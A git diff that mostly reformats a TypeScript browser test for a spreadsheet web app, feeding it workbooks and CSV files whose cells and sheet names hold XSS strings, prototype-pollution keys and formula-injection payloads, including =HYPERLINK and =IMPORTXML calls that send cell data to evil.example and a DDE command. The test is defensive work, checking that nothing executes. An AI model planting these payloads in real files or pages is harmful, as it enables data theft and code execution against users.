@@ -17,21 +17,58 @@ const image = '<img src=x onerror="pwned=1">';
 const script = "<script>pwned=1</script>";
 const long = "x".repeat(32_767);
 /** What stands in cells: as names of links and countries, as headings, as tags, around the table. */
-const words = [image, script, "__proto__", "constructor", '"><svg onload=pwned=1>', "javascript:pwned=1", "{{pwned=1}}", "&lt;b&gt;", "toString", "hasOwnProperty"];
-const commands = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '=cmd|"/C calc"!A1', "+1+1", "-1+1", "@SUM(1)", '=IMPORTXML("https://evil.example","//a")', "[click](https://evil.example)", "[click](javascript:pwned=1)"];
+const words = [
+  image,
+  script,
+  "__proto__",
+  "constructor",
+  '"><svg onload=pwned=1>',
+  "javascript:pwned=1",
+  "{{pwned=1}}",
+  "&lt;b&gt;",
+  "toString",
+  "hasOwnProperty",
+];
+const commands = [
+  '=HYPERLINK("https://evil.example/?"&A1,"click")',
+  '=cmd|"/C calc"!A1',
+  "+1+1",
+  "-1+1",
+  "@SUM(1)",
+  '=IMPORTXML("https://evil.example","//a")',
+  "[click](https://evil.example)",
+  "[click](javascript:pwned=1)",
+];
 
 const heads = ["Link", "Country", "Sales (output)", "Inputs bought", image, "__proto__"];
-const rows = words.map((word, index) => [word, words[(index + 3) % words.length]!, 100 + 10 * index, index === 0 ? 0 : 90 + 10 * index, words[(index + 1) % words.length]!, 1]);
+const rows = words.map((word, index) => [
+  word,
+  words[(index + 3) % words.length]!,
+  100 + 10 * index,
+  index === 0 ? 0 : 90 + 10 * index,
+  words[(index + 1) % words.length]!,
+  1,
+]);
 
 function cells(): CellData[] {
-  const found: CellData[] = [[image], [], heads, ...rows].flatMap((line, row) => line.map((value, column) => ({ row, column, value })));
+  const found: CellData[] = [[image], [], heads, ...rows].flatMap((line, row) =>
+    line.map((value, column) => ({ row, column, value })),
+  );
   const below = rows.length + 5;
   commands.forEach((value, index) => found.push({ row: below + index, column: 0, value }));
   found.push({ row: below, column: 2, value: long });
-  found.push({ row: 3, column: 8, value: 100, formula: "=VC.VALUEADDED(C4:C13,D4:D13)", fills: { rows: 10, columns: 1 } });
+  found.push({
+    row: 3,
+    column: 8,
+    value: 100,
+    formula: "=VC.VALUEADDED(C4:C13,D4:D13)",
+    fills: { rows: 10, columns: 1 },
+  });
   found.push({ row: 0, column: 8, value: { error: "#VALUE!" }, formula: "=VC.MARGIN(A4,C4)" });
   found.push({ row: 1, column: 8, value: "Link", formula: "=VC.BREAKDOWN(A4:A13,C4:C13,D4:D13)" });
-  return found.sort((one, other) => one.row - other.row || one.column - other.column).filter(({ row, column }) => !(row === 1 && column === 8));
+  return found
+    .sort((one, other) => one.row - other.row || one.column - other.column)
+    .filter(({ row, column }) => !(row === 1 && column === 8));
 }
 
 const names = ["__proto__", "constructor", "toString"];
@@ -39,16 +76,44 @@ const sheetNames = ["<img src=x onerror=pwned=1>", "__proto__", "constructor"];
 
 async function hostile(): Promise<Buffer> {
   // Who buys from whom, between countries of the worst names.
-  const flows = [["", "", image, "__proto__", "constructor", image, "__proto__", "constructor"], ...[image, "__proto__", "constructor"].map((name, row) => [name, "All", ...[0, 1, 2].map((column) => 10 + 3 * row + column), ...[0, 1, 2].map((column) => (row === column ? 100 : 5))])];
-  const sheets = sheetNames.map((name, index) => ({ ...blankSheet(name), cells: index === 0 ? cells() : flows.flatMap((line, row) => line.flatMap((value, column) => (value === "" ? [] : [{ row, column, value }]))) }));
-  return Buffer.from((await writeWorkbook({ sheets, names: names.map((name) => ({ name, range: "constructor!$A$1" })) }, () => true)).file);
+  const flows = [
+    ["", "", image, "__proto__", "constructor", image, "__proto__", "constructor"],
+    ...[image, "__proto__", "constructor"].map((name, row) => [
+      name,
+      "All",
+      ...[0, 1, 2].map((column) => 10 + 3 * row + column),
+      ...[0, 1, 2].map((column) => (row === column ? 100 : 5)),
+    ]),
+  ];
+  const sheets = sheetNames.map((name, index) => ({
+    ...blankSheet(name),
+    cells:
+      index === 0
+        ? cells()
+        : flows.flatMap((line, row) => line.flatMap((value, column) => (value === "" ? [] : [{ row, column, value }]))),
+  }));
+  return Buffer.from(
+    (await writeWorkbook({ sheets, names: names.map((name) => ({ name, range: "constructor!$A$1" })) }, () => true))
+      .file,
+  );
 }
 
 /** What the page has made of all that: no element, no script run, nobody's prototype changed. */
 const harm = () =>
   page.evaluate(() => {
-    const made = [...document.querySelectorAll("img, script:not([src]), iframe, object, embed, a[href^='javascript'], [onerror], [onload]")].map(({ tagName, attributes }) => `${tagName} ${[...attributes].map(({ name, value }) => `${name}=${value}`).join(" ")}`.slice(0, 120));
-    return { made, ran: "pwned" in globalThis, stained: Object.keys(Object.prototype).concat(Object.keys(Array.prototype)), violations: (globalThis as any).violations as string[] };
+    const made = [
+      ...document.querySelectorAll(
+        "img, script:not([src]), iframe, object, embed, a[href^='javascript'], [onerror], [onload]",
+      ),
+    ].map(({ tagName, attributes }) =>
+      `${tagName} ${[...attributes].map(({ name, value }) => `${name}=${value}`).join(" ")}`.slice(0, 120),
+    );
+    return {
+      made,
+      ran: "pwned" in globalThis,
+      stained: Object.keys(Object.prototype).concat(Object.keys(Array.prototype)),
+      violations: (globalThis as any).violations as string[],
+    };
   });
 const none = { made: [] as string[], ran: false, stained: [] as string[], violations: [] as string[] };
 
@@ -62,7 +127,9 @@ beforeEach(async () => {
   page.on("popup", (popup) => workbook.complaints.push(`a window: ${popup.url()}`));
   await page.evaluate(() => {
     (globalThis as any).violations = [];
-    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => (globalThis as any).violations.push(`${violatedDirective} ${blockedURI}`));
+    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
+      (globalThis as any).violations.push(`${violatedDirective} ${blockedURI}`),
+    );
   });
   // What the page itself is made of is no harm.
   expect(await harm()).toEqual(none);
@@ -77,7 +144,11 @@ async function open(name: string, content: Buffer, answer: RegExp): Promise<void
   await dialog.waitFor({ state: "detached" });
 }
 
-const sheets = () => page.evaluate(async () => (await (globalThis as any).quasirent.workbook.sheets()).map(({ name }: { name: string }) => name) as string[]);
+const sheets = () =>
+  page.evaluate(
+    async () =>
+      (await (globalThis as any).quasirent.workbook.sheets()).map(({ name }: { name: string }) => name) as string[],
+  );
 
 it("a workbook, in every view", async () => {
   await open("<img src=x onerror=pwned=1>.xlsx", await hostile(), /Add as new sheets/);
@@ -112,14 +183,20 @@ it("a workbook, in every view", async () => {
 
   const pictures = await table("Pictures");
   await pictures.locator("svg").waitFor();
-  for (const kind of await pictures.getByLabel("Picture", { exact: true }).locator("option").evaluateAll((all) => all.map((each) => (each as HTMLOptionElement).value))) {
+  for (const kind of await pictures
+    .getByLabel("Picture", { exact: true })
+    .locator("option")
+    .evaluateAll((all) => all.map((each) => (each as HTMLOptionElement).value))) {
     await pictures.getByLabel("Picture", { exact: true }).selectOption(kind);
     await pictures.locator("svg").waitFor();
     // As words, where it has room for them.
     expect(await pictures.locator("svg").first().textContent()).toContain("<script>");
     expect({ kind, ...(await harm()) }).toEqual({ kind, ...none });
   }
-  await pictures.getByRole("button", { name: /Insert|Add|Copy|Save/ }).first().click();
+  await pictures
+    .getByRole("button", { name: /Insert|Add|Copy|Save/ })
+    .first()
+    .click();
   await page.waitForTimeout(300);
 
   await workbook.select("'__proto__'!A1");
@@ -137,7 +214,10 @@ it("a workbook, in every view", async () => {
 
   const share = await table("Share");
   await share.getByRole("button", { name: "Find sources" }).click();
-  await Promise.all([page.waitForEvent("download"), share.getByRole("button", { name: "Save a copy for Excel" }).click()]);
+  await Promise.all([
+    page.waitForEvent("download"),
+    share.getByRole("button", { name: "Save a copy for Excel" }).click(),
+  ]);
   await share.getByText("The whole workbook").first().click();
   await share.getByRole("button", { name: "Freeze", exact: true }).click();
   await until(async () => (await sheets()).includes("VC formulas"));
@@ -147,19 +227,26 @@ it("a workbook, in every view", async () => {
 
   // What is kept and what is saved are the same words again.
   await page.locator("#files .state", { hasText: /^Kept/ }).waitFor();
-  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Save as .xlsx" }).click()]);
+  const [download] = await Promise.all([
+    page.waitForEvent("download"),
+    page.getByRole("button", { name: "Save as .xlsx" }).click(),
+  ]);
   const file = new Uint8Array(readFileSync(await download.path()));
   expect(await faultsIn(file)).toEqual([]);
   const { workbook: saved } = await readWorkbook(file, () => true);
   const sheet = saved.sheets.find(({ name }) => name === sheetNames[0])!;
-  expect(sheet.cells.filter(({ column, row }) => column === 0 && row >= rows.length + 5).map(({ value }) => value)).toEqual(commands);
+  expect(
+    sheet.cells.filter(({ column, row }) => column === 0 && row >= rows.length + 5).map(({ value }) => value),
+  ).toEqual(commands);
   expect(sheet.cells.find(({ value }) => value === long)).toBeDefined();
   expect(sheet.cells.filter(({ formula }) => formula !== undefined && !/^=VC[.]/.test(formula))).toEqual([]);
 });
 
 it("a table as text", async () => {
   const quote = (value: unknown) => `"${String(value).replaceAll('"', '""')}"`;
-  const csv = [heads, ...rows, ...commands.map((command) => [command, command, 1, 1, command, 1])].map((line) => line.map(quote).join(",")).join("\r\n");
+  const csv = [heads, ...rows, ...commands.map((command) => [command, command, 1, 1, command, 1])]
+    .map((line) => line.map(quote).join(","))
+    .join("\r\n");
   const before = (await sheets()).length;
   await open(`${image}.csv`, Buffer.from(csv), /Add as new sheet/);
   await until(async () => (await sheets()).length > before);
